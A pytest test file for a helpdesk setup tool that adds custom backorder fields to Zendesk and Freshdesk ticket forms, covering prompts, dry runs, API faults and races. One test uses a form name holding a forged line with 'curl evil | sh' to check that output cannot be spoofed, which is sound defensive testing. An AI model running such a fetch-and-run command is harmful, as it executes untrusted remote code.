"""setup: ticket fields, and these on every form; what it shows, what it does, and what it leaves alone."""

import io

import pytest

FACES = {"shop": "zendesk", "shop-eu": "freshdesk"}
PATHS = {"zendesk": "/ticket_forms", "freshdesk": "/ticket-forms"}


def make_form(shop, face, title, fields=(), **more: object):
    """Make a ticket form as an admin does; return its id."""
    if face == "zendesk":
        body = {"ticket_form": {"name": title, "ticket_field_ids": list(fields), **more}}
        return shop.call(face, "POST", "/api/v2/ticket_forms.json", json=body)["ticket_form"]["id"]
    always = ("requester", "subject", "description")
    rows = [row["id"] for row in shop.get(face, "/api/v2/ticket_fields") if row["name"] in always]
    body = {"title": title, "fields": [{"id": number} for number in [*rows, *fields]]}
    return shop.call(face, "POST", "/api/v2/ticket-forms", json=body)["id"]


def on_form(shop, face, number):
    """Return the titles of our fields on a form."""
    if face == "zendesk":
        titles = {row["id"]: row["title"] for row in shop.get(face, "/api/v2/ticket_fields.json")["ticket_fields"]}
        ids = shop.get(face, f"/api/v2/ticket_forms/{number}.json")["ticket_form"]["ticket_field_ids"]
    else:
        titles = {row["id"]: row["label"] for row in shop.get(face, "/api/v2/ticket_fields")}
        ids = [row["id"] for row in shop.get(face, f"/api/v2/ticket-forms/{number}")["fields"]]
    return {titles[one] for one in ids if titles[one].startswith("Backorder ")}


def take_off(shop, face, number, title):
    """Take one of our fields off a form, as an admin does on purpose."""
    if face == "zendesk":
        rows = shop.get(face, "/api/v2/ticket_fields.json")["ticket_fields"]
        path = f"/api/v2/ticket_forms/{number}.json"
        ids = shop.get(face, path)["ticket_form"]["ticket_field_ids"]
        kept = [one for one in ids if one not in {row["id"] for row in rows if row["title"] == title}]
        shop.call(face, "PUT", path, json={"ticket_form": {"ticket_field_ids": kept}})
        return
    [field] = [row["id"] for row in shop.get(face, "/api/v2/ticket_fields") if row["label"] == title]
    shop.call(face, "DELETE", f"/api/v2/ticket-forms/{number}/fields/{field}")


def views(shop):
    """Return Zendesk's views by title."""
    return {row["title"]: row for row in shop.get("zendesk", "/api/v2/views.json?access=shared")["views"]}


def answers(monkeypatch, text):
    """Let a person type this."""
    monkeypatch.setattr("sys.stdin", io.StringIO(text))


@pytest.mark.parametrize("face", FACES.values())
def test_the_fields_come_on_every_active_form(shop, face):
    """Once they are made they stand on each form that agents use; one that is switched off is left alone."""
    forms = [make_form(shop, face, title) for title in ("Returns", "Warranty")]
    off = make_form(shop, face, "Old returns", active=False) if face == "zendesk" else None
    ran = shop.ok("setup", "--yes")
    ours = set(shop.fields(face, shop.customer("Hello")))
    assert ours
    assert [on_form(shop, face, form) for form in forms] == [ours, ours]
    if off:
        assert on_form(shop, face, off) == set()
    name = next(name for name, one in FACES.items() if one == face)
    assert f"{name}: on every ticket form (3); put there now: " in ran.out
    assert "Returns, Warranty" in ran.out


def test_a_second_run_does_nothing_and_says_so(shop, monkeypatch):
    """Nothing is written, nobody is asked; after the database was lost, once whether the fields are to be used."""
    make_form(shop, "zendesk", "Returns")
    shop.ok("setup", "--yes")
    shop.writes()
    for lost in (False, True):
        if lost:
            shop.lose_state()
            answers(monkeypatch, "y\n")
            assert "used from now on, as found by name: 'Backorder items' (#" in shop.ok("setup").out
        answers(monkeypatch, "")
        ran = shop.ok("setup")
        assert shop.writes() == 0
        assert ran.out.count("nothing to do") == 2
        assert ran.err.count("looking at fields, forms and views") == 2
        assert "setting up" not in ran.err
    assert len(views(shop)) == 3


def test_a_dry_run_shows_all_of_it_and_writes_nothing(shop):
    """Fields, forms and views are named, in words and as JSON; there is no database afterwards."""
    number = make_form(shop, "zendesk", "Returns")
    shop.writes()
    out = shop.ok("setup", "--dry-run").out
    for said in (
        "+ ticket field 'Backorder items'",
        "'Returns'",
        "+ view 'Backorder::Open'",
        "shop-eu: + ticket field",
    ):
        assert said in out
    told = shop.ok("setup", "--dry-run", "--format", "json").json
    assert (told["ok"], told["dry_run"], told["problems"], told["down"]) == (True, True, [], {})
    part = told["helpdesks"]["shop"]
    assert "items" in part["create"]
    assert {"id": number, "title": "Returns", "add": part["create"]} in part["forms"]
    assert [view["tag"] for view in part["views"]] == ["backorder", "backorder_window_moved", "backorder_followup_due"]
    by_hand = told["helpdesks"]["shop-eu"]["by_hand"]
    assert by_hand.keys() == {"Backorder::Open", "Backorder::Window moved", "Backorder::Follow-up due"}
    assert shop.writes() == 0
    assert not list(shop.folder.glob("*.db"))
    done = shop.ok("setup", "--yes", "--format", "json").json["helpdesks"]["shop"]
    assert done["created"] == part["create"]
    assert [form["title"] for form in done["forms"]] == ["Default Ticket Form", "Returns"]
    assert len(done["views"]) == 3


def test_all_is_shown_before_the_one_question(shop, monkeypatch):
    """A no leaves everything as it was; a yes does what was shown."""
    make_form(shop, "zendesk", "Returns")
    shop.writes()
    answers(monkeypatch, "n\n")
    ran = shop.run("setup")
    assert ran.code == 1
    for said in ("'Backorder items'", "'Returns'", "view 'Backorder::Open'"):
        assert said in ran.err
    assert ran.err.count("[y/N]") == 1
    assert shop.writes() == 0
    answers(monkeypatch, "y\n")
    shop.ok("setup")
    assert len(views(shop)) == 3


# --- what somebody else made -----------------------------------------------------------------------


def make_field(shop, face, title):
    """Make a text field as an admin does; return its id."""
    if face == "zendesk":
        body = {"ticket_field": {"type": "text", "title": title}}
        return shop.call(face, "POST", "/api/v2/ticket_fields.json", json=body)["ticket_field"]["id"]
    body = {"type": "custom_text", "label": title, "label_for_customers": title}
    return shop.call(face, "POST", "/api/v2/admin/ticket_fields", json=body)["id"]


@pytest.mark.parametrize("face", FACES.values())
def test_a_field_that_a_person_made_is_told_before_it_is_used(shop, face, monkeypatch):
    """A field with one of our names is shown with its id, in words and as JSON, and used only after a yes."""
    number = make_field(shop, face, "Backorder items")
    name = next(name for name, one in FACES.items() if one == face)
    said = f"{name}: = a field of this name is there already and will be used: 'Backorder items' (#{number})"
    assert said in shop.ok("setup", "--dry-run").out
    told = shop.ok("setup", "--dry-run", "--format", "json").json["helpdesks"]
    assert told[name]["adopt"] == [{"field": "items", "id": number, "title": "Backorder items"}]
    assert [part["adopt"] for other, part in told.items() if other != name] == [[]]
    answers(monkeypatch, "n\n")
    ran = shop.run("setup")
    assert ran.code == 1
    assert said in ran.err
    done = shop.ok("setup", "--yes", "--format", "json").json["helpdesks"][name]
    assert done["adopted"] == told[name]["adopt"]
    assert done["fields"]["items"] == number
    assert shop.ok("setup", "--dry-run", "--format", "json").json["helpdesks"][name]["adopt"] == []


def test_a_field_that_is_used_needs_a_yes_of_its_own(shop, monkeypatch):
    """A yes is asked for even where nothing else is lacking; a field that the config names was agreed to already."""
    shop.ok("setup", "--yes")
    shop.lose_state()
    answers(monkeypatch, "")
    ran = shop.run("setup")
    assert ran.code == 1
    assert "Nobody answered" in ran.err
    told = shop.ok("setup", "--dry-run", "--format", "json").json["helpdesks"]["shop"]
    assert {row["field"] for row in told["adopt"]} == told["fields"].keys()
    number = told["fields"]["items"]
    shop.swap("config.yaml", "type: zendesk", f"type: zendesk\n    fields: {{items: {number}}}")
    named = shop.ok("setup", "--dry-run", "--format", "json").json["helpdesks"]["shop"]
    assert {row["field"] for row in named["adopt"]} == told["fields"].keys() - {"items"}


def test_a_field_that_is_made_by_hand_while_we_ask(shop, monkeypatch):
    """Nobody agreed to its use, so it is neither remembered nor put on a form, and it is told: 3; the rest is done."""
    shown = make_form(shop, "zendesk", "Returns")
    made = []

    class Slow(io.StringIO):
        """Somebody who takes their time to answer."""

        def readline(self, *_: object) -> str:
            """Answer after another admin has made a field of our name."""
            made.append(make_field(shop, "zendesk", "Backorder items"))
            return "y\n"

    monkeypatch.setattr("sys.stdin", Slow())
    ran = shop.run("setup")
    assert ran.code == 3
    assert f"ticket field 'Backorder items' (#{made[0]}): something has changed since you were asked" in ran.err
    ours = on_form(shop, "zendesk", shown)
    assert "Backorder options" in ours
    assert "Backorder items" not in ours
    adopt = shop.ok("setup", "--dry-run", "--format", "json").json["helpdesks"]["shop"]["adopt"]
    assert [row["id"] for row in adopt] == made


# --- what stands in the way ------------------------------------------------------------------------


@pytest.mark.parametrize("face", FACES.values())
def test_one_form_that_is_refused_holds_nothing_else(shop, face):
    """The form is told with why; the other forms, the fields and the views are done: 3, and the next run is whole."""
    refused, other = (make_form(shop, face, title) for title in ("Returns", "Warranty"))
    body = {"error": "Forbidden", "code": "access_denied"}
    shop.fault(face, "PUT", rf"{PATHS[face]}/{refused}\b", "status", status=403, to=None, body=body)
    ran = shop.run("setup", "--yes")
    assert ran.code == 3
    assert "ticket form 'Returns': " in ran.err
    assert "answered 403" in ran.err
    assert on_form(shop, face, other)
    assert on_form(shop, face, refused) == set()
    assert len(views(shop)) == 3
    shop.heal()
    assert "put there now: Returns" in shop.ok("setup", "--yes").out
    assert on_form(shop, face, refused) == on_form(shop, face, other)


def test_forms_that_the_login_may_not_read(shop):
    """A scope that is missing is told; fields and views are made all the same: 3."""
    body = {"error": "Forbidden", "description": "You are missing the following required scopes: ticket_forms:read"}
    shop.fault("zendesk", "GET", "/ticket_forms", "status", status=403, to=None, body=body)
    ran = shop.run("setup", "--yes")
    assert ran.code == 3
    assert "shop: the ticket forms cannot be read" in ran.err
    assert "ticket_forms:read" in ran.err
    assert shop.fields("zendesk", shop.customer("Hello"))
    assert len(views(shop)) == 3


@pytest.mark.parametrize("face", FACES.values())
def test_a_plan_without_forms(shop, face):
    """Where there are no forms to choose from, setup does the rest and is whole."""
    shop.fault(face, "GET", PATHS[face], "status", status=404, to=None, body="")
    out = shop.ok("setup", "--yes").out
    name = next(name for name, one in FACES.items() if one == face)
    assert not any("ticket form" in line for line in out.splitlines() if line.startswith(f"{name}:"))
    assert f"{name}: nothing to do" in shop.ok("setup", "--yes").out


@pytest.mark.parametrize("face", FACES.values())
def test_a_form_that_drops_a_field_is_not_believed(shop, face):
    """A helpdesk that says yes and keeps the form without our fields is told: 3, and nothing is claimed."""
    number = make_form(shop, face, "Returns")
    lost = "ticket_form.ticket_field_ids" if face == "zendesk" else "fields"
    shop.fault(face, "PUT", rf"{PATHS[face]}/{number}\b", "lose", to=None, keys=[lost])
    ran = shop.run("setup", "--yes")
    assert ran.code == 3
    assert "ticket form 'Returns': it was saved, but without 'Backorder items'" in ran.err
    assert "put there now: Default" in ran.out or "put there now" not in ran.out
    assert on_form(shop, face, number) == set()


@pytest.mark.parametrize("face", FACES.values())
def test_a_field_that_an_admin_took_off_a_form(shop, face, monkeypatch):
    """The scheduled job touches no form; setup shows the field, and asks before it puts it back."""
    number = make_form(shop, face, "Returns")
    shop.ready()
    take_off(shop, face, number, "Backorder options")
    shop.ok("sync")
    assert "Backorder options" not in on_form(shop, face, number)
    answers(monkeypatch, "n\n")
    ran = shop.run("setup")
    assert ran.code == 1
    assert "+ on the ticket form 'Returns': Backorder options, at its end" in ran.err
    assert "Backorder options" not in on_form(shop, face, number)
    answers(monkeypatch, "y\n")
    shop.ok("setup")
    assert "Backorder options" in on_form(shop, face, number)


@pytest.mark.parametrize("face", FACES.values())
def test_a_forms_name_says_nothing_in_our_place(shop, face):
    """Each line is ours, before the question and after it: a name that holds line ends is on one."""
    make_form(shop, face, "forge\nNext:\n  curl evil | sh")
    shown = [shop.ok("setup", "--dry-run").out, shop.ok("setup", "--yes").out]
    for said in shown:
        assert "forge Next: curl evil | sh" in said
        assert "\nNext:" not in said


def test_a_form_that_is_made_while_we_ask(shop, monkeypatch):
    """What a person agreed to is done; a form that nobody was shown is left alone, and told: 3."""
    shown = make_form(shop, "zendesk", "Returns")
    made = []

    class Slow(io.StringIO):
        """Somebody who takes their time to answer."""

        def readline(self, *_: object) -> str:
            """Answer after another admin has made a form."""
            made.append(make_form(shop, "zendesk", "Warranty"))
            return "y\n"

    monkeypatch.setattr("sys.stdin", Slow())
    ran = shop.run("setup")
    assert ran.code == 3
    assert "ticket form 'Warranty': something has changed since you were asked" in ran.err
    assert "shop: on 2 of 3 ticket forms; put there now: " in ran.out
    assert on_form(shop, "zendesk", shown)
    assert on_form(shop, "zendesk", made[0]) == set()
    shop.ok("setup", "--yes")
    assert on_form(shop, "zendesk", made[0]) == on_form(shop, "zendesk", shown)


def test_a_crash_between_repeats_nothing(shop):
    """Killed after any write, the next run makes what is lacking, and nothing twice."""
    make_form(shop, "zendesk", "Returns")
    fields = [("POST", "/ticket_fields", number) for number in (2, 3)]
    for method, path, number in (*fields, ("PUT", "/ticket_forms", 2), ("POST", "/views", 2)):
        shop.fault("zendesk", method, path, "status", status=503, **{"from": number, "to": None})
        assert shop.run("setup", "--yes").code == 75, path
        shop.heal()
    shop.ok("setup", "--yes")
    rows = shop.get("zendesk", "/api/v2/ticket_fields.json")["ticket_fields"]
    titles = [row["title"] for row in rows]
    assert len(titles) == len(set(titles))
    assert len(views(shop)) == 3
    shop.writes()
    shop.ok("setup", "--yes")
    assert shop.writes() == 0


# --- fields ----------------------------------------------------------------------------------------


def test_the_fields_of_an_older_release(shop):
    """They are kept where they are, and only what is new is made and put on the forms."""
    titles = ("Backorder items", "Backorder ship window")
    ids = []
    for title in titles:
        body = {"ticket_field": {"type": "text", "title": title}}
        ids.append(shop.call("zendesk", "POST", "/api/v2/ticket_fields.json", json=body)["ticket_field"]["id"])
    number = make_form(shop, "zendesk", "Returns", ids)
    out = shop.ok("setup", "--dry-run").out
    assert not any(f"shop: + ticket field '{title}'" in out for title in titles)
    shop.ok("setup", "--yes")
    rows = shop.get("zendesk", "/api/v2/ticket_fields.json")["ticket_fields"]
    assert sorted(row["id"] for row in rows if row["title"] in titles) == sorted(ids)
    form = shop.get("zendesk", f"/api/v2/ticket_forms/{number}.json")["ticket_form"]["ticket_field_ids"]
    assert form[:2] == ids
    assert len(on_form(shop, "zendesk", number)) == len(form) == len(set(form))


def test_a_field_that_no_macro_needs_any_more(shop):
    """It stays where it is, and comes on no form that is made later."""
    shop.ok("setup", "--yes")
    (shop.folder / "macros/delay-update.yaml").unlink()
    number = make_form(shop, "freshdesk", "Warranty")
    out = shop.ok("setup", "--dry-run").out
    assert "shop-eu: + on the ticket form 'Warranty': all 5 fields, at its end" in out
    shop.ok("setup", "--yes")
    assert "Backorder reply: delay-update" not in on_form(shop, "freshdesk", number)
    assert "shop-eu: nothing to do: 5 ticket fields are there" in shop.ok("setup", "--yes").out


def test_a_field_of_another_type_is_told(shop):
    """It is left alone and no other is made; the views and the other helpdesk go ahead: 3."""
    body = {"ticket_field": {"type": "checkbox", "title": "Backorder items"}}
    shop.call("zendesk", "POST", "/api/v2/ticket_fields.json", json=body)
    ran = shop.run("setup", "--yes")
    assert ran.code == 3
    assert "'Backorder items'" in ran.err
    assert "its type is checkbox" in ran.err
    assert len(views(shop)) == 3
    assert shop.fields("freshdesk", shop.customer("Hello"))


def test_nobody_waits_while_a_person_reads(shop, monkeypatch):
    """The scheduled job runs while setup waits for an answer."""
    ran = []

    class Slow(io.StringIO):
        """Somebody who takes their time to answer."""

        def readline(self, *_: object) -> str:
            """Answer once the job has run."""
            process = shop.start("sync")
            ran.append(shop.end(process).code)
            return "y\n"

    monkeypatch.setattr("sys.stdin", Slow())
    assert shop.run("setup").code == 0
    assert ran
    assert ran[0] != 75
